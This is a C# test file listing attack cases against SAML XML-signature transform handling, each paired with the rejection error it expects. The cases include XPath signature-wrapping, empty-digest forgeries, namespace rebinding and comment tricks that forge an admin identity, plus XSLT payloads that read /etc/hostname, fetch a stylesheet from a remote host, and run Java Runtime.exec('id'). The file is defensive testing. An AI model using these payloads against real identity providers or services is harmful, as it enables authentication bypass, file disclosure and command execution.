using System.Security.Cryptography;
using System.Text;
using Saml.Core.Testing;
using Saml.Core.Tests.Signatures;
using static Saml.Core.SamlErrorCode;
using static Saml.Core.Tests.Attacks.Attack;
using static Saml.Core.Tests.Attacks.Genuine;
using static Saml.Core.Tests.Signatures.SignatureText;

namespace Saml.Core.Tests.Attacks;

/// <summary>Group TR: from the element to the octets that are digested.</summary>
internal static class TransformAttacks
{
    private const Bases OneSignature = Bases.Response | Bases.Assertion;
    private const string Exclusive = "http://www.w3.org/2001/10/xml-exc-c14n#";
    private const string XPath = "http://www.w3.org/TR/1999/REC-xpath-19991116";
    private const string Xslt = "http://www.w3.org/TR/1999/REC-xslt-19991116";
    private const string ExclusiveTransform = $"<ds:Transform Algorithm=\"{Exclusive}\"/>";
    private const string Transforms = "<ds:Transforms>";
    private const string EndOfTransforms = "</ds:Transforms>";
    private const string EndOfConditions = "</saml2:Conditions>";
    private const string Response = "<saml2p:Response ";
    private const string Prefixes = "PrefixList=\"xs\"";
    private const string SchemaDeclaration = "xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"";

    private static readonly string s_emptyDigest = Convert.ToBase64String(SHA256.HashData([]));

    public static IReadOnlyList<Attack> All { get; } =
    [
        // Which transforms.
        .. Vector("TR-1", "transform: none"),
        .. Vector("TR-1", "reference: to the parent, without transforms"),
        .. OddlySigned("TR-1", "an empty Transforms", TransformNotAllowed, _ => new() { EditSignedInfo = text => EditContent(text, "Transforms", _ => "") }),
        .. Vector("TR-2", "transform: only exclusive canonicalization"),
        .. Vector("TR-3", "transform: in the wrong order"),
        .. Vector("TR-4", "transform: enveloped-signature twice"),
        .. Vector("TR-4", "transform: exclusive canonicalization twice"),
        .. Vector("TR-4", "transform: eleven of them"),
        .. OddlySigned("TR-4", "a thousand of them", TransformNotAllowed,
            _ => new() { EditSignedInfo = text => text.Once(EndOfTransforms, string.Concat(Enumerable.Repeat(ExclusiveTransform, 1000)) + EndOfTransforms) }),
        .. Changed(OneSignature, "TR-4", "twenty thousand of them", XmlLimitExceeded,
            m => m.With(EndOfTransforms, string.Concat(Enumerable.Repeat("<ds:Transform/>", 15_000)) + string.Concat(Enumerable.Repeat("<a/>", 5_100)) + EndOfTransforms)),
        .. Vector("TR-5", "transform: only enveloped-signature"),
        .. Vector("TR-6", "transform: Canonical XML 1.0"),
        .. Vector("TR-6", "transform: method: Canonical XML 1.0"),
        .. Vector("TR-7", "transform: Canonical XML 1.1"),
        .. Vector("TR-7", "transform: method: Canonical XML 1.1"),
        .. Vector("TR-8", "transform: exclusive with comments"),
        .. Vector("TR-8", "transform: Canonical XML 1.0 with comments"),
        .. Vector("TR-8", "transform: Canonical XML 1.1 with comments"),
        .. Vector("TR-8", "transform: method: exclusive with comments"),
        .. Vector("TR-8", "transform: method: Canonical XML 1.0 with comments"),
        .. OddlySigned("TR-8", "method: Canonical XML 1.1 with comments", CanonicalizationNotAllowed,
            _ => new() { CanonicalizationMethod = "http://www.w3.org/2006/12/xml-c14n11#WithComments" }),

        // Transforms that choose or compute.
        .. Vector("TR-9", "transform: XPath"),
        .. Selecting("TR-9", "XPath without the attributes, which are changed", XPath, "<ds:XPath>not(ancestor-or-self::*[local-name()='AttributeStatement'])</ds:XPath>", TransformNotAllowed,
            xml => xml.Once(">agent, supervisor<", ">admin<")),
        .. Selecting("TR-9", "XPath without a forged assertion, which is added", XPath, $"<ds:XPath>not(ancestor-or-self::*[@ID='{EvilId}'])</ds:XPath>", MultipleAssertions,
            xml => xml.Once("</saml2p:Response>", Of(SignaturePlacement.Response).Evil + "</saml2p:Response>")),
        .. Selecting("TR-9", "XPath that never ends", XPath, "<ds:XPath>count(//*//*//*//*//*//*//*//*) &gt; 0</ds:XPath>", TransformNotAllowed, xml => xml),
        .. Vector("TR-10", "transform: XPath Filter 2.0"),
        .. Vector("TR-11", "transform: XSLT"),
        .. Vector("TR-11", "transform: an XSLT without Algorithm first"),
        .. Vector("TR-11", "transform: method: XSLT"),
        .. Stylesheet("that reads a file", "<xsl:template match=\"/\"><xsl:value-of select=\"document('file:///etc/hostname')\"/></xsl:template>"),
        .. Stylesheet("that reads a URL", "<xsl:include href=\"http://192.0.2.1/x.xsl\"/>"),
        .. Stylesheet("with unparsed-text()", "<xsl:template match=\"/\"><xsl:value-of select=\"unparsed-text('/etc/hostname')\"/></xsl:template>"),
        .. Stylesheet("with a script", "<m:script xmlns:m=\"urn:schemas-microsoft-com:xslt\" language=\"C#\">public string f() { return \"\"; }</m:script>"),
        .. Stylesheet("that calls Java", "<xsl:template match=\"/\"><xsl:value-of xmlns:r=\"http://xml.apache.org/xalan/java/java.lang.Runtime\" select=\"r:exec(r:getRuntime(),'id')\"/></xsl:template>"),
        .. Vector("TR-12", "transform: base64"),
        .. Vector("TR-13", "transform: decrypt#XML"),
        .. Algorithm("TR-13", "decrypt#Binary", "http://www.w3.org/2002/07/decrypt#Binary"),
        .. Vector("TR-14", "transform: STR-Transform"),
        .. Algorithm("TR-14", "licenseTransform", "urn:mpeg:mpeg21:2003:01-REL-R-NS:licenseTransform"),
        .. Algorithm("TR-14", "RelationshipTransform", "http://schemas.openxmlformats.org/package/2006/RelationshipTransform"),
        .. Vector("TR-15", "transform: empty"),
        .. Vector("TR-15", "transform: unknown"),
        .. Vector("TR-15", "transform: with a blank at the end"),
        .. Vector("TR-15", "transform: in upper case"),
        .. Vector("TR-15", "transform: without the #"),
        .. Vector("TR-15", "transform: no Algorithm"),
        .. Vector("TR-15", "transform: two Algorithms"),
        .. Vector("TR-15", "transform: enveloped-signature in another case"),
        .. Vector("TR-15", "transform: method: empty"),
        .. Vector("TR-15", "transform: method: with a blank at the end"),
        .. Vector("TR-15", "transform: method: in upper case"),
        .. Vector("TR-15", "transform: method: no Algorithm"),
        .. Vector("TR-16", "transform: content of enveloped-signature"),
        .. Vector("TR-16", "transform: text in enveloped-signature"),
        .. Vector("TR-16", "transform: method: a foreign child"),
        .. Vector("TR-16", "transform: a foreign element among them"),
        .. Vector("TR-16", "transform: an attribute on Transform"),
        .. OddlySigned("TR-16", "a foreign child of the canonicalization", SignatureMalformed,
            _ => new() { EditSignedInfo = text => text.Once($"{Prefixes}/>", $"{Prefixes}/><x/>") }),
        .. OddlySigned("TR-16", "an XPath in the canonicalization", SignatureMalformed,
            _ => new() { EditSignedInfo = text => text.Once($"{Prefixes}/>", $"{Prefixes}/><ds:XPath>1</ds:XPath>") }),

        // InclusiveNamespaces.
        .. Vector("TR-17", "transform: PrefixList: absent"),
        .. Vector("TR-17", "transform: PrefixList: empty"),
        .. Vector("TR-17", "transform: PrefixList: blank"),
        .. Vector("TR-17", "transform: PrefixList: one prefix"),
        .. Vector("TR-17", "transform: PrefixList: #default"),
        .. Vector("TR-17", "transform: PrefixList: several"),
        .. Vector("TR-17", "transform: PrefixList: one twice"),
        .. Vector("TR-17", "transform: PrefixList: with tabs and line ends"),
        .. Vector("TR-17", "transform: PrefixList: declared nowhere"),
        .. Vector("TR-17", "transform: PrefixList: no attribute"),
        .. Vector("TR-18", "transform: InclusiveNamespaces: in no namespace"),
        .. Vector("TR-18", "transform: InclusiveNamespaces: twice"),
        .. Vector("TR-18", "transform: InclusiveNamespaces: a child"),
        .. Vector("TR-18", "transform: InclusiveNamespaces: a listed prefix is bound anew"),
        .. Vector("TR-18", "transform: PrefixList: longer than allowed"),
        .. Vector("TR-18", "transform: PrefixList: not a prefix"),
        .. OddlySigned("TR-18", "InclusiveNamespaces in another namespace", SignatureMalformed,
            _ => new() { EditSignedInfo = text => text.Once($"xmlns:ec=\"{Exclusive}\"", $"xmlns:ec=\"{Exclusive}x\"") }),
        .. Changed(OneSignature, "TR-18", "a list of 20,000 prefixes", InclusiveNamespacesInvalid,
            m => m.With(Prefixes, $"PrefixList=\"{string.Join(' ', Enumerable.Range(0, 20_000).Select(number => $"p{number}"))}\"")),
        .. Changed(OneSignature, "TR-18", "a list that is longer than a message may be", MessageTooLarge,
            m => m.With(Prefixes, $"PrefixList=\"{string.Join(' ', Enumerable.Range(0, 100_000).Select(number => $"p{number}"))}\"")),
        .. Changed(OneSignature, "TR-18", "a prefix more in the list", SignatureInvalid, m => m.With(Prefixes, "PrefixList=\"xs saml2\"")),
        .. Changed(Bases.Assertion, "TR-18", "a listed prefix is declared by the Response alone", None,
            m => m.With(m.Assertion, m.Assertion.Once($" {SchemaDeclaration}", ""))),
        .. Changed(Bases.Assertion, "TR-18", "a listed prefix is declared by the Response alone, and otherwise", DigestMismatch,
            m => m.With(m.Assertion, m.Assertion.Once($" {SchemaDeclaration}", "")).Once(SchemaDeclaration, "xmlns:xs=\"urn:evil\"")),
        .. Changed(Bases.Assertion, "TR-18", "a listed prefix is bound anew by the Response alone", None,
            m => m.Xml.Once(SchemaDeclaration, "xmlns:xs=\"urn:evil\"")),
        .. Vector("TR-19", "transform: a prefix that nothing uses visibly is bound anew"),
        .. TypeRebound(),

        // Canonicalization that makes nothing of something.
        .. Vector("TR-20", "content: a relative namespace name"),
        .. Vector("TR-20", "reference: digest of nothing"),
        .. Changed(Bases.All, "TR-20", "a relative namespace name and the digest of nothing", NamespaceNotAllowed,
            m => WithEmptyDigest(Forge(m.Xml)).Once(Response, $"{Response}xmlns:example=\"1\" ")),
        .. Changed(Bases.All, "TR-20", "the digest of nothing", SignatureInvalid, m => WithEmptyDigest(Forge(m.Xml))),
        .. Void("TR-20", "a relative namespace name, the golden signature", NamespaceNotAllowed, "xmlns:example=\"1\""),
        .. Void("TR-20", "a relative path as namespace name, the golden signature", NamespaceNotAllowed, "xmlns:example=\"../x\""),
        .. Forged("TR-20", "the golden signature and the digest of nothing", SignatureInvalid, Golden(WithEmptyDigest)),
        .. Forged("TR-20", "the golden signature alone", SignatureInvalid, Golden(text => text)),
        .. Forged("TR-20", "a genuine signature of the digest of nothing", DigestMismatch, Trusting(RawRsaKey.Trusted.Sign, WithEmptyDigest)),
        .. Vector("TR-21", "content: a namespace name with a control character"),
        .. Void("TR-21", "a control character in a namespace name, the golden signature", NamespaceNotAllowed, "xmlns:example=\"http://example.com\u0080\""),
        .. Void("TR-21", "a blank in a namespace name, the golden signature", NamespaceNotAllowed, "xmlns:example=\"http://example.com/ x\""),
        .. Vector("TR-22", "reference: nothing: the digest of no octets"),
        .. Forged("TR-22", "a Reference to nowhere, the golden signature", ReferenceTargetMismatch,
            Golden(text => WithEmptyDigest(text).Replace("URI=\"#id", "URI=\"#_absent"))),
        .. Written(Bases.All, "TR-23", "a canonical form beyond its limit", CanonicalizationFailed, StructureAttacks.Growing),
        .. Written(Bases.All, "TR-23", "elements beyond the limit of depth", XmlLimitExceeded, xml => Advise(xml, Nested(40)), Control.NaiveVerifier),
        .. Changed(Bases.All, "TR-23", "elements beyond the limit of depth, added afterwards", XmlLimitExceeded,
            m => m.With("</saml2:AttributeValue>", $"{Nested(200)}</saml2:AttributeValue>")),
        .. Written(Bases.All, "TR-23", "attributes beyond their limit", XmlLimitExceeded,
            xml => Advise(xml, $"<x {string.Join(' ', Enumerable.Range(0, 65).Select(number => $"a{number}=\"\""))}/>")),
        .. Written(Bases.All, "TR-23", "declarations beyond their limit", XmlLimitExceeded,
            xml => Advise(xml, $"<x {string.Join(' ', Enumerable.Range(0, 64).Select(number => $"xmlns:a{number}=\"urn:x\""))}/>")),
        .. Changed(Bases.All, "TR-23", "an entity", MalformedXml, m => m.With(">agent, supervisor<", ">&admin;<")),
        .. Vector("TR-24", "content: a processing instruction in a value"),
        .. Hidden("<?p not-an-?>admin@example.com", ProcessingInstructionNotAllowed),
        .. Hidden("<!--not-an--->admin@example.com", MalformedXml),
        .. Hidden("<!--not-an-x-->admin@example.com", CommentInValue),
        .. Hidden("not-an-<![CDATA[]]>admin@example.com", None),
        .. Vector("TR-25", "transform: another one behind"),
        .. OddlySigned("TR-25", "XPath behind the canonicalization", TransformNotAllowed, id => new()
        {
            References = [ReferenceRecipe.To(id) with { Transforms = [TransformRecipe.EnvelopedSignature, TransformRecipe.ExclusiveCanonicalization(), new() { Algorithm = XPath, Content = "<ds:XPath>1</ds:XPath>" }] }],
        }),
        .. OddlySigned("TR-25", "exclusive canonicalization, then another one", TransformNotAllowed, id => new()
        {
            References = [ReferenceRecipe.To(id) with { Transforms = [TransformRecipe.ExclusiveCanonicalization(), new() { Algorithm = "urn:x" }] }],
        }),

        .. Vector("TR-26", "content: the SignedInfo"),
        .. Vector("TR-26", "content: white space in the SignedInfo"),
        .. Vector("TR-26", "content: the ID, with the Reference"),

        // Characters.
        .. Vector("TR-27", "content: signed with CRLF, which are LF"),
        .. Vector("TR-27", "content: signed with line ends"),
        .. Vector("TR-27", "content: a carriage return in a value"),
        .. Minted(Bases.All, "TR-27", "carriage returns in values", None, template => template with
        {
            Attributes = [.. template.Attributes, TemplateAttribute.Basic("address", "1 Main St\r\nSpringfield\rUSA\n")],
        }),
        .. Minted(Bases.All, "TR-28", "white space in an attribute's value", None, template => template with { SessionIndex = "\t1\n2\r3 " }),
        .. Minted(Bases.All, "TR-28", "characters to escape", None, template => template with { SessionIndex = "<&>\"'" }),
        .. Written(Bases.All, "TR-28", "literal line ends in an attribute's value", None, xml => xml.Once("<saml2:Conditions ", "<saml2:Conditions\n\t")),
        .. Vector("TR-29", "content: signed with a default namespace"),
        .. Vector("TR-29", "content: signed with xml:lang"),
        .. Vector("TR-29", "content: signed under xml:lang on the Response"),
        .. Vector("TR-29", "content: a declaration that nothing uses"),
        .. Namespaces("the default namespace taken back", "<a xmlns=\"urn:1\"><b xmlns=\"\"><c xmlns=\"urn:1\"/></b></a>"),
        .. Namespaces("a prefix bound anew", "<p:a xmlns:p=\"urn:1\"><p:b xmlns:p=\"urn:2\"><p:c xmlns:p=\"urn:1\"/></p:b></p:a>"),
        .. Namespaces("superfluous declarations", "<p:a xmlns:p=\"urn:1\"><p:b xmlns:p=\"urn:1\" xmlns:q=\"urn:2\"/></p:a>"),
        .. Namespaces("siblings that declare the same", "<p:a xmlns:p=\"urn:1\"/><p:a xmlns:p=\"urn:1\"/><p:a xmlns:p=\"urn:2\"/>"),
        .. Namespaces("two prefixes of one namespace", "<a xmlns=\"urn:1\" xmlns:p=\"urn:1\" p:z=\"1\" y=\"2\"><p:b xmlns:q=\"urn:1\" q:x=\"3\" p:w=\"4\"/></a>"),
        .. Namespaces("attributes by namespace names", "<a xmlns:z=\"urn:1\" xmlns:a=\"urn:2\" a:n=\"1\" z:n=\"2\" n=\"3\" xml:space=\"preserve\"/>"),
        .. Minted(Bases.All, "TR-30", "characters beyond U+FFFF", None, template => template with
        {
            NameId = "jos\u00E9.\U0001F600@example.com",
            Attributes = [.. template.Attributes, TemplateAttribute.Basic("\U0001F600\uFF21", "\uFF21\U0001F600\u65E5\uFFFD\U0010FFFD")],
        }),
        .. Written(Bases.All, "TR-30", "names beyond US-ASCII, by code points", None,
            xml => Advise(xml, "<x xmlns:a=\"urn:2\" xmlns:b=\"urn:1\" a:n=\"1\" b:n=\"2\" \u00E9=\"3\" z=\"4\" A=\"5\"/>")),
    ];

    private static string Advise(string xml, string content) =>
        xml.Once(EndOfConditions, $"{EndOfConditions}<saml2:Advice>{content}</saml2:Advice>");

    private static string Nested(int depth) =>
        string.Concat(Enumerable.Repeat("<x>", depth)) + string.Concat(Enumerable.Repeat("</x>", depth));

    private static IEnumerable<Attack> Algorithm(string row, string name, string algorithm) =>
        OddlySigned(row, name, TransformNotAllowed, id => new()
        {
            References = [ReferenceRecipe.To(id) with { Transforms = [TransformRecipe.EnvelopedSignature, new() { Algorithm = algorithm }] }],
        });

    // Signed with a transform that leaves something out, which is changed afterwards.
    private static IEnumerable<Attack> Selecting(
        string row, string name, string algorithm, string content, SamlErrorCode expected, Func<string, string> change) =>
        OddlySigned(row, name, expected, id => new()
        {
            References = [ReferenceRecipe.To(id) with { Transforms = [TransformRecipe.EnvelopedSignature, new() { Algorithm = algorithm, Content = content }, TransformRecipe.ExclusiveCanonicalization()] }],
        }).Select(attack => attack with { Message = () => Encoding.UTF8.GetBytes(change(Encoding.UTF8.GetString(attack.Message()))) });

    private static IEnumerable<Attack> Stylesheet(string name, string content)
    {
        string stylesheet = $"<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">{content}</xsl:stylesheet>";
        return
        [
            .. OddlySigned("TR-11", $"an XSLT {name}", TransformNotAllowed,
                _ => new() { EditSignedInfo = text => text.Once(Transforms, $"{Transforms}<ds:Transform Algorithm=\"{Xslt}\">{stylesheet}</ds:Transform>") }),
            .. Changed(OneSignature, "TR-11", $"an XSLT {name}, added afterwards", TransformNotAllowed,
                m => m.With(Transforms, $"{Transforms}<ds:Transform Algorithm=\"{Xslt}\">{stylesheet}</ds:Transform>")),
            .. Changed(OneSignature, "TR-11", $"an XSLT {name}, added afterwards without Algorithm", TransformNotAllowed,
                m => m.With(Transforms, $"{Transforms}<ds:Transform>{stylesheet}</ds:Transform>")),
        ];
    }

    private static string WithEmptyDigest(string signedInfo) => EditContent(signedInfo, "DigestValue", _ => s_emptyDigest);

    private static Forgery Trusting(Func<byte[], byte[]> sign, Func<string, string> editSignedInfo) => new(sign)
    {
        EditSignedInfo = editSignedInfo,
        ServiceProvider = RawRsaKey.Trusted.ServiceProvider,
        Twin = placement => new Forgery(RawRsaKey.Trusted.Sign).Message(placement),
    };

    // The one genuine signature of no octets at all fits every message whose canonical form comes out empty.
    private static Forgery Golden(Func<string, string> editSignedInfo) =>
        Trusting(_ => RawRsaKey.Trusted.Sign([]), editSignedInfo);

    private static IEnumerable<Attack> Void(string row, string name, SamlErrorCode expected, string declaration) =>
        Forged(row, name, expected, Golden(WithEmptyDigest)).Select(attack => attack with
        {
            Message = () => Encoding.UTF8.GetBytes(
                Encoding.UTF8.GetString(attack.Message()).Once(Response, $"{Response}{declaration} ")),
        });

    // The type of a value stands in its text, where exclusive canonicalization does not see the prefix.
    private static IEnumerable<Attack> TypeRebound() =>
        OneSignature.Placements().Select(placement => new Attack("TR-19", $"the prefix of xsi:type means another schema ({placement})", None)
        {
            Message = () => SignedMessage.Change(
                SignedMessage.Mint(placement, new SignatureSettings { PrefixList = null }),
                xml => xml.Replace(SchemaDeclaration, "xmlns:xs=\"urn:evil:nothing\"")),
            Twin = () => SignedMessage.Mint(placement),
        });

    // The signed user is not an admin; what is left after the change looks like one.
    private static IEnumerable<Attack> Hidden(string text, SamlErrorCode expected)
    {
        ResponseTemplate template = SignedMessage.Template with { NameId = "not-an-admin@example.com" };
        return OneSignature.Placements().Select(placement => new Attack("TR-24", $"{text} ({placement})", expected)
        {
            Message = () => Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(Keys.Rsa.Mint(template, placement))
                .Once(">not-an-admin@example.com<", $">{text}<")),
            Twin = () => Keys.Rsa.Mint(template, placement),
            Signed = template,
        });
    }

    private static IEnumerable<Attack> Namespaces(string name, string content) =>
        Written(Bases.All, "TR-29", $"signed with {name}", None, xml => Advise(xml, content));
}
